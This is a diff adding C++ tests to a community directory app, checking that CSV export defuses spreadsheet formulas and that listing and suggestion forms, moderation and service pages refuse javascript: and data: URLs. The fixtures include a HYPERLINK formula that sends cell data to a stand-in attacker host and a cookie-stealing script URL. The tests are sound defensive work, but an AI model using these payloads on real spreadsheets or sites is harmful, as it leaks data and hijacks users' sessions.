@@ -235,6 +235,26 @@ Json same_warm_space_from_another_feed(const std::string& id, const std::string&
                                                                              {"country", "GB"}}})}}}}})}}});
 }
 
+TEST_P(DirectoryStoreTest, TheCsvExportCarriesNoFormulaAndKeepsNumbersAsNumbers) {
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
+  auto report = import(same_warm_space_from_another_feed("formula-feed-1", formula));
+  ASSERT_TRUE(report.problems.empty());
+  std::ostringstream csv;
+  directory::export_csv(db(), csv);  // what `kith export directory --format csv` writes
+  std::istringstream in(csv.str());
+  CsvReader reader(in);
+  auto header = reader.header();
+  std::vector<std::string> row;
+  int rows = 0;
+  while (reader.next(row)) {
+    ++rows;
+    for (const auto& cell : row) EXPECT_FALSE(csv_formula(cell)) << cell;
+    EXPECT_EQ(row[header["name"]], "'" + formula);
+    EXPECT_EQ(row[header["longitude"]].substr(0, 2), "-1");  // a negative number, still a number
+  }
+  EXPECT_EQ(rows, 1);
+}
+
 TEST_P(DirectoryStoreTest, AnotherFeedListingTheSameServiceUpdatesItByNameAndPostcode) {
   import(directory::demo_feed());
   auto r = import(same_warm_space_from_another_feed("hub-sheet-1", "  tuesday warm SPACE (demo) "));
@@ -480,6 +500,106 @@ TEST_P(DirectoryApiTest, ModeratorsApproveNewListingsAndChanges) {
   for (const auto& e : log["entries"]) actions.insert(e["action"]);
   EXPECT_TRUE(actions.count("directory.submission.create"));
   EXPECT_TRUE(actions.count("directory.submission.approve"));
+}
+
+TEST_P(DirectoryApiTest, SuggestionsPassTheSameRulesAsANewListingAndAgainOnApproval) {
+  Json page = get("/oruk/services?search=halesowen%20men%27s%20shed");
+  ASSERT_EQ(page["contents"].size(), 1u);
+  std::string service_id = page["contents"][0]["id"];
+  auto url_of = [&](const Json& s) {
+    return s.contains("url") && s["url"].is_string() ? s["url"].get<std::string>() : "";
+  };
+  std::string url_before = url_of(get("/oruk/services/" + service_id));
+  std::string path = "/api/v1/directory/services/" + service_id + "/suggest";
+  auto resident = browser();
+  auto fields_of = [](const testing::HttpReply& r) {
+    std::map<std::string, std::string> out;
+    const Json body = r.json();
+    for (const auto& e : body["errors"]) out[e["field"]] = e["message"];
+    return out;
+  };
+
+  // A script address, a bad email, an overlong name and a bad contact email are each refused by name.
+  auto script = resident.post_json(path, {{"url", "javascript:alert(document.cookie)"}, {"note", "New website"}});
+  ASSERT_EQ(script.status, 422) << script.body;
+  EXPECT_EQ(fields_of(script)["url"], "Enter a web address starting https://, like https://example.org");
+  auto several = resident.post_json(path, {{"name", std::string(121, 'x')},
+                                           {"email", "not an email"},
+                                           {"url", "data:text/html,<b>hi</b>"},
+                                           {"contact_email", "nobody"}});
+  ASSERT_EQ(several.status, 422) << several.body;
+  auto fields = fields_of(several);
+  EXPECT_EQ(fields["name"], "Use 120 characters or fewer");
+  EXPECT_EQ(fields["email"], "Enter an email address like name@example.com");
+  EXPECT_TRUE(fields.count("url"));
+  EXPECT_EQ(fields["contact_email"], "Enter an email address like name@example.com, or leave it blank");
+  // The same rules on "Add your group", with the person's contact details too.
+  auto added = resident.post_json("/api/v1/directory/add", {{"name", "Script cafe" + GetParam()},
+                                                            {"description", "Tea"},
+                                                            {"address_1", "Dudley Library"},
+                                                            {"town", "Dudley"},
+                                                            {"postcode", "DY1 3PT"},
+                                                            {"url", "javascript:alert(1)"}});
+  ASSERT_EQ(added.status, 422) << added.body;
+  EXPECT_TRUE(fields_of(added).count("url"));
+  auto contact = resident.post_json("/api/v1/directory/add", {{"name", "Contact cafe" + GetParam()},
+                                                              {"description", "Tea"},
+                                                              {"address_1", "Dudley Library"},
+                                                              {"town", "Dudley"},
+                                                              {"postcode", "DY1 3PT"},
+                                                              {"contact_name", std::string(121, 'x')}});
+  ASSERT_EQ(contact.status, 422) << contact.body;
+  EXPECT_EQ(fields_of(contact)["contact_name"], "Use 120 characters or fewer");
+  // A good suggestion is taken.
+  auto good = resident.post_json(path, {{"url", "https://example.org/shed"}});
+  ASSERT_EQ(good.status, 201) << good.body;
+
+  // A suggestion stored before these rules (written straight to the database) cannot be approved.
+  std::int64_t old_id = 0;
+  {
+    auto handle = testing::shared_server(GetParam()).app().database().acquire();
+    store::Transaction tx(*handle, true);
+    old_id = handle
+                 ->query_one(
+                     "INSERT INTO directory_submissions (kind, service_id, proposed, note, created_at) VALUES "
+                     "('change', ?, ?, '', '2026-01-01T00:00:00Z') RETURNING id",
+                     {service_id, Json{{"url", "javascript:alert(1)"}}.dump()})
+                 ->integer(0);
+    tx.commit();
+  }
+  auto moderator = browser();
+  moderator.sign_in("moderator@demo.kith.test", "kith-demo-moderator");
+  auto approved =
+      moderator.post_json("/api/v1/moderate/directory/" + std::to_string(old_id), {{"decision", "approve"}});
+  ASSERT_EQ(approved.status, 422) << approved.body;
+  EXPECT_EQ(approved.json()["errors"][0]["field"], "decision");
+  EXPECT_EQ(url_of(get("/oruk/services/" + service_id)), url_before);
+  EXPECT_EQ(moderator.get("/api/v1/moderate/directory/" + std::to_string(old_id)).json()["status"], "pending");
+  ASSERT_EQ(moderator
+                .post_json("/api/v1/moderate/directory/" + std::to_string(old_id),
+                           {{"decision", "reject"}, {"reason", "Not a web address"}})
+                .status,
+            200);
+  ASSERT_EQ(
+      moderator
+          .post_json("/api/v1/moderate/directory/" + std::to_string(good.json()["submission_id"].get<std::int64_t>()),
+                     {{"decision", "approve"}})
+          .status,
+      200);
+  EXPECT_EQ(get("/oruk/services/" + service_id)["url"], "https://example.org/shed");
+
+  // Whatever a feed or an old record holds, the service page links only an http(s) address.
+  auto set_url = [&](const std::string& url) {
+    auto handle = testing::shared_server(GetParam()).app().database().acquire();
+    store::Transaction tx(*handle, true);
+    handle->exec("UPDATE hsds_service SET url = ? WHERE id = ?", {url, service_id});
+    tx.commit();
+  };
+  set_url("javascript:alert(1)");
+  EXPECT_EQ(api("/api/v1/directory/services/" + service_id)["service"]["url"], "");
+  EXPECT_EQ(browser().get("/directory/services/" + service_id).body.find("javascript:"), std::string::npos);
+  set_url("https://example.org/shed");
+  EXPECT_EQ(api("/api/v1/directory/services/" + service_id)["service"]["url"], "https://example.org/shed");
 }
 
 TEST_P(DirectoryApiTest, TheSearchApiAnswersFromTheIndexNearestFirst) {
